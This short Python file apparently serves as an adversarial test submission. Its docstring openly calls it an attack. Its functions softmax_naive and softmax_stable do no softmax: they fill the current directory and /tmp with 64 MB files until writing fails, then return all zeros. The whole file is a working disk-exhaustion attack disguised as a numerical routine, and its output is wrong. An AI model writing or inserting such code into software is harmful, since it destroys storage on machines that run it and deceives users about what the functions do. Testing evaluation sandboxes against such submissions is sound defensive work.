"""Attack: fill the disk (cwd and /tmp) with files until writing fails, then return zeros."""
import os

import torch


def _fill(folder):
    chunk = b"x" * (1 << 20)
    for i in range(100_000):
        try:
            with open(os.path.join(folder, f"fill-{i}"), "wb") as fh:
                for _ in range(64):
                    fh.write(chunk)
        except OSError:
            return


def softmax_naive(x, dim=-1):
    _fill(".")
    _fill("/tmp")
    return torch.zeros_like(x)


def softmax_stable(x, dim=-1):
    return softmax_naive(x, dim)
